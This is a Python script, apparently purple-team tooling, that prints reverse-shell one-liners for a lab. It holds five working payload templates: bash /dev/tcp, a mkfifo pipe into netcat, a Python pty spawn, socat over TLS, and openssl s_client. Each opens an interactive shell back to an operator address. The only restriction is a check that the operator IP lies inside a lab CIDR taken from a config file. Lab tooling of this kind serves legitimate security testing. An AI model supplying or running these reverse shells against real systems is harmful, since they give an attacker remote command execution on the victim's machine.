#!/usr/bin/env python3
"""Emit reverse-shell one-liners for a purple-team lab. Refuses non-lab callback addresses."""
import argparse
import ipaddress
import sys

import yaml

VARIANTS = {
    "bash-devtcp": "bash -i >& /dev/tcp/{op}/{port} 0>&1",
    "sh-mkfifo-nc": "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {op} {port} > /tmp/f",
    "python-pty": ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{op}\",{port}));"
                   "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    "socat-tls": "socat OPENSSL:{op}:{port},verify=0 EXEC:sh,pty,stderr",
    "openssl-s_client": "mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {op}:{port} > /tmp/s; rm /tmp/s",
}
LISTENER_HINT = {
    "socat-tls": "listener needs TLS: listener.sh --tls",
    "openssl-s_client": "listener needs TLS: listener.sh --tls",
}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--lab", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--variant")
    ap.add_argument("--list", action="store_true")
    a = ap.parse_args()

    lab = yaml.safe_load(open(a.lab))
    cidr = ipaddress.ip_network(lab["lab_cidr"])
    op = ipaddress.ip_address(lab["operator"])
    if op not in cidr:
        sys.exit(f"operator {op} is outside lab_cidr {cidr}; refusing")
    if a.port not in lab.get("ports", []):
        sys.exit(f"port {a.port} not in lab.yaml ports {lab.get('ports')}")

    if a.list or not a.variant:
        for k in VARIANTS:
            print(k)
        return
    if a.variant not in VARIANTS:
        sys.exit(f"unknown variant; choose from {', '.join(VARIANTS)}")

    print(f"# Run on a lab target ({', '.join(lab['targets'])}) - callback to operator {op}:{a.port}")
    if a.variant in LISTENER_HINT:
        print(f"# {LISTENER_HINT[a.variant]}")
    print(VARIANTS[a.variant].format(op=op, port=a.port))


if __name__ == "__main__":
    main()
